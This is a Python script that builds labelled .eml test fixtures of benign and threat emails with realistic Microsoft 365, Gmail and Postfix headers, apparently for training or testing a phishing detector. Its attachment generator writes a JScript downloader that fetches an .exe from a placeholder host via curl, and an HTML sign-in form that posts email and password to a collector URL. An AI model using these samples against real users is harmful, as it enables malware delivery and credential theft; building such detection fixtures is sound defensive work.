"""Render the hand-written modern fixtures (tests/fixtures/modern_ham and modern_threats) from
their messages.toml into .eml files with current delivery headers, plus a labels.csv per set.

Deterministic: the same TOML always gives the same bytes. Headers follow what Microsoft 365,
Gmail / Google Workspace and a self-hosted Postfix put on mail today (DKIM, ARC,
Authentication-Results, Exchange and Gmail trace headers); the receiving side is Microsoft 365
for company recipients and Gmail for gmail.com / outlook.com recipients.

    .venv/bin/python scripts/make_modern_fixtures.py
"""

from __future__ import annotations

import base64
import hashlib
import html
import io
import tomllib
import zipfile
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime, getaddresses
from pathlib import Path
from typing import Any

FIXTURES = Path(__file__).resolve().parents[1] / "tests" / "fixtures"
SETS = ("modern_ham", "modern_threats")
BANNER_ORGS = {"contoso.com", "fabrikam.com", "litware.com", "proseware.com", "adatum.com"}
BANNER = (
    "CAUTION: This email originated from outside of the organization. Do not click links or "
    "open attachments unless you recognize the sender and know the content is safe."
)
START = datetime(2024, 2, 5, 8, 0, tzinfo=UTC)
POLICY = policy.default.clone(linesep="\n", max_line_length=998)
FOLD_AT = 76


def digest(*parts: object, size: int = 32) -> str:
    raw = hashlib.sha256("|".join(map(str, parts)).encode()).digest() * 4
    return base64.b64encode(raw).decode()[:size]


def domain_of(address: str) -> str:
    return getaddresses([address])[0][1].rsplit("@", 1)[1].lower()


def sender_headers(spec: dict[str, Any], key: str, when: datetime) -> list[tuple[str, str]]:
    """Trace and signature headers the sending platform adds."""
    style, domain = spec["style"], domain_of(spec["from"])
    stamp = format_datetime(when)
    if style == "m365":
        host = f"AM{digest(key, 'h', size=4).upper()}PR0{len(key) % 9}MB{len(domain) * 97}"
        return [
            (
                "Received",
                f"from {host}.eurprd0{len(domain) % 9}.prod.outlook.com "
                f"([fe80::{digest(key, 'ip', size=4).lower()}]) by {host}.eurprd0{len(domain) % 9}"
                f".prod.outlook.com ([fe80::1%5]) with mapi id 15.20.8293.000; {stamp}",
            ),
            (
                "DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; "
                f"s=selector1; h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
                f"X-MS-Exchange-SenderADCheck; bh={digest(key, 'bh', size=43)}=; "
                f"b={digest(key, 'b', size=88)}",
            ),
            ("Thread-Topic", spec["subject"].removeprefix("RE: ")),
            ("Thread-Index", "AQH" + digest(key, "ti", size=25)),
            ("X-MS-Has-Attach", "yes" if spec.get("attachment") else ""),
            ("X-MS-TNEF-Correlator", ""),
            ("msip_labels", ""),
            ("x-ms-publictraffictype", "Email"),
            ("Content-Language", "en-US"),
        ]
    if style in ("gmail", "workspace"):
        signer = "gmail.com" if style == "gmail" else domain
        selector = "20230601" if style == "gmail" else "google"
        return [
            (
                "Received",
                f"by mail-ed1-f{40 + len(key) % 50}.google.com with SMTP id "
                f"{digest(key, 'sid', size=16).lower()}; {stamp}",
            ),
            (
                "DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={signer}; "
                f"s={selector}; t={int(when.timestamp())}; x={int(when.timestamp()) + 604800}; "
                f"h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:"
                f"message-id:reply-to; bh={digest(key, 'bh', size=43)}=; "
                f"b={digest(key, 'b', size=88)}",
            ),
            (
                "X-Google-DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; "
                f"d=1e100.net; s=20230601; t={int(when.timestamp())}; "
                f"bh={digest(key, 'bh', size=43)}=; b={digest(key, 'gb', size=64)}",
            ),
            ("X-Gm-Message-State", "AOJu0Y" + digest(key, "gm", size=40)),
            ("X-Google-Smtp-Source", "AGHT+I" + digest(key, "gs", size=40)),
            (
                "X-Received",
                f"by 2002:a05:6402:{len(key) % 9000:x}:b0:5d0:{len(domain):x} "
                f"with SMTP id {digest(key, 'xr', size=12).lower()}; {stamp}",
            ),
        ]
    return [
        (
            "Received",
            f"from [192.168.1.{20 + len(key) % 200}] (unknown [198.51.100."
            f"{len(key) % 250}]) (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)) "
            f"(No client certificate requested) by mail.{domain} (Postfix) with ESMTPSA id "
            f"{digest(key, 'pf', size=11).upper()} "
            f"for <{getaddresses([spec['to']])[0][1]}>; {stamp}",
        ),
        (
            "DKIM-Signature",
            f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s=mail; "
            f"t={int(when.timestamp())}; bh={digest(key, 'bh', size=43)}=; "
            f"b={digest(key, 'b', size=88)}",
        ),
        ("User-Agent", "Mozilla Thunderbird"),
    ]


def receiver_headers(spec: dict[str, Any], key: str, when: datetime) -> list[tuple[str, str]]:
    """What the recipient's platform adds on delivery (newest first, as in real mail)."""
    domain, rcpt = domain_of(spec["from"]), domain_of(spec["to"])
    dkim_d = "gmail.com" if spec["style"] == "gmail" else domain
    weak = spec.get("label", "ham") != "ham" and spec["style"] == "postfix"
    spf = "softfail" if weak else "pass"
    dmarc = "none" if weak else "pass"
    stamp = format_datetime(when + timedelta(seconds=3))
    ip = (
        f"209.85.208.{len(key) % 250}"
        if spec["style"] in ("gmail", "workspace")
        else (
            f"40.107.{len(domain) % 250}.{len(key) % 250}"
            if spec["style"] == "m365"
            else f"198.51.100.{len(key) % 250}"
        )
    )
    if rcpt in ("gmail.com", "outlook.com"):
        results = (
            f"mx.google.com; dkim=pass header.i=@{dkim_d} header.s=sel header.b="
            f"{digest(key, 'b', size=8)}; spf={spf} (google.com: domain of sender@{domain}"
            f" designates {ip} as permitted sender) smtp.mailfrom={domain}; dmarc={dmarc} "
            f"(p=NONE sp=NONE dis=NONE) header.from={domain}"
        )
        return [
            (
                "Received",
                f"from mail.{domain} ({ip}) by mx.google.com with ESMTPS id "
                f"{digest(key, 'gx', size=20).lower()} for <{getaddresses([spec['to']])[0][1]}> "
                f"(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256); {stamp}",
            ),
            (
                "ARC-Seal",
                f"i=1; a=rsa-sha256; t={int(when.timestamp())}; cv=none; d=google.com; "
                f"s=arc-20240605; b={digest(key, 'as', size=88)}",
            ),
            ("ARC-Authentication-Results", f"i=1; {results}"),
            ("Authentication-Results", results),
        ]
    results = (
        f"spf={spf} (sender IP is {ip}) smtp.mailfrom={domain}; dkim=pass (signature was "
        f"verified) header.d={dkim_d};dmarc={dmarc} action=none header.from={domain};"
        f"compauth={'pass reason=100' if not weak else 'softpass reason=201'}"
    )
    return [
        (
            "Received",
            f"from {rcpt.split('.')[0].upper()}P281CA0042.outlook.office365.com by "
            f"DB9PR0{len(rcpt) % 9}MB{len(key) * 13}.eurprd0{len(rcpt) % 9}.prod.outlook.com with "
            f"HTTPS; {stamp}",
        ),
        (
            "ARC-Seal",
            f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none; "
            f"b={digest(key, 'as', size=88)}",
        ),
        (
            "ARC-Authentication-Results",
            f"i=1; mx.microsoft.com 1; spf={spf} smtp.mailfrom="
            f"{domain}; dmarc={dmarc} action=none header.from={domain}; "
            f"dkim=pass header.d={dkim_d}; arc=none",
        ),
        ("Authentication-Results", results),
        (
            "Received-SPF",
            f"{spf.capitalize()} ({'protection.outlook.com'}: domain of {domain} "
            f"designates {ip} as permitted sender) receiver=protection.outlook.com; "
            f"client-ip={ip}; helo=mail.{domain};",
        ),
        ("X-MS-Exchange-Organization-AuthAs", "Anonymous"),
        ("X-MS-Exchange-Organization-SCL", "1"),
    ]


def attachment_bytes(name: str, key: str) -> tuple[bytes, str, str]:
    if name.endswith(".zip"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            member = zipfile.ZipInfo(name.removesuffix(".zip") + ".pdf.js", (2025, 1, 6, 9, 0, 0))
            archive.writestr(
                member,
                "var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c "
                f"curl -o %TEMP%\\\\u.exe https://cdn-{digest(key, size=6).lower()}"
                ".xyz/u.exe');\n",
            )
        return buffer.getvalue(), "application", "zip"
    if name.endswith(".html"):
        page = (
            "<html><body><h3>Sign in to view the document</h3><form action='https://"
            f"collect-{digest(key, size=6).lower()}.top/p.php' method='post'>"
            "<input name='email'><input type='password' name='pass'>"
            "<button>View</button></form></body></html>"
        )
        return page.encode(), "text", "html"
    return minimal_pdf(name), "application", "pdf"


def minimal_pdf(title: str) -> bytes:
    """A small valid one-page PDF (with a correct cross-reference table)."""
    text = f"BT /F1 12 Tf 72 720 Td ({title}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def bodies(spec: dict[str, Any], external: bool) -> tuple[str, str]:
    text, link = spec["body"], spec.get("link")
    label = spec.get("link_text", link)
    if external:
        text = f"{BANNER}\n\n{text}"
    plain = text.replace("{link}", f"{label} <{link}>") if link else text
    escaped = html.escape(text).replace(
        "{link}", f'<a href="{html.escape(link or "")}">{html.escape(label or "")}</a>'
    )
    paragraphs = "".join(f"<p>{p.replace(chr(10), '<br>')}</p>" for p in escaped.split("\n\n"))
    wrapper = (
        '<div dir="ltr">'
        if spec["style"] in ("gmail", "workspace")
        else '<div class="WordSection1" style="font-family:Aptos,sans-serif">'
    )
    page = (
        f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        f"</head><body>{wrapper}{paragraphs}</div></body></html>"
    )
    return plain, page


def fold(name: str, value: str) -> str:
    """One raw header, folded at spaces like mail software does; long tag values (DKIM b=)
    are split with folding white space, which DKIM allows inside them."""
    pieces: list[str] = []
    for word in value.split(" "):
        rest = word
        while len(rest) > FOLD_AT - 8:
            pieces.append(rest[:64])
            rest = rest[64:]
        pieces.append(rest)
    lines, current = [], f"{name}:"
    for piece in pieces:
        if len(current) + 1 + len(piece) > FOLD_AT and current.strip():
            lines.append(current)
            current = "\t" + piece
        else:
            current = f"{current} {piece}" if not current.endswith("\t") else current + piece
    return "\n".join([*lines, current])


def render(spec: dict[str, Any], index: int, set_name: str) -> bytes:
    key = f"{set_name}:{index}:{spec['subject']}"
    when = START + timedelta(
        days=index * 13 + (7 if set_name == "modern_threats" else 0), minutes=index * 37 % 600
    )
    domain = domain_of(spec["from"])
    external = domain_of(spec["to"]) in BANNER_ORGS and domain not in BANNER_ORGS
    sender = getaddresses([spec["from"]])[0][1]
    trace = [("Return-Path", f"<{sender}>"), *receiver_headers(spec, key, when)]
    trace += sender_headers(spec, key, when)
    raw_headers = "".join(fold(name, value) + "\n" for name, value in trace if value.isascii())
    msg = EmailMessage(policy=POLICY)
    msg["From"], msg["To"] = spec["from"], spec["to"]
    if spec.get("cc"):
        msg["Cc"] = spec["cc"]
    msg["Subject"], msg["Date"] = spec["subject"], format_datetime(when)
    mid_host = "mail.gmail.com" if spec["style"] == "gmail" else domain
    msg["Message-ID"] = f"<{digest(key, 'mid', size=24).replace('/', '_')}@{mid_host}>"
    if spec.get("reply"):
        parent = f"<{digest(key, 'parent', size=24).replace('/', '_')}@{mid_host}>"
        msg["In-Reply-To"], msg["References"] = parent, parent
    plain, page = bodies(spec, external)
    msg.set_content(plain)
    if spec.get("html", True):
        msg.add_alternative(page, subtype="html")
    if spec.get("attachment"):
        data, main, sub = attachment_bytes(spec["attachment"], key)
        msg.add_attachment(data, maintype=main, subtype=sub, filename=spec["attachment"])
    for number, part in enumerate(msg.walk()):
        if part.is_multipart():  # fixed boundaries keep the output reproducible
            part.set_boundary(f"=_{digest(key, 'boundary', number, size=20).replace('/', '.')}")
    return raw_headers.encode() + msg.as_bytes(policy=POLICY)


def main() -> None:
    for set_name in SETS:
        folder = FIXTURES / set_name
        specs = tomllib.loads((folder / "messages.toml").read_text())["message"]
        rows = ["path,label,source"]
        for index, spec in enumerate(specs):
            name = f"{set_name.removeprefix('modern_')}-{index:03d}.eml"
            (folder / name).write_bytes(render(spec, index, set_name))
            rows.append(f"{name},{spec.get('label', 'ham')},phishloop:{set_name}/messages.toml")
        (folder / "labels.csv").write_text("\n".join(rows) + "\n")
        print(f"{set_name}: {len(specs)} messages")


if __name__ == "__main__":
    main()
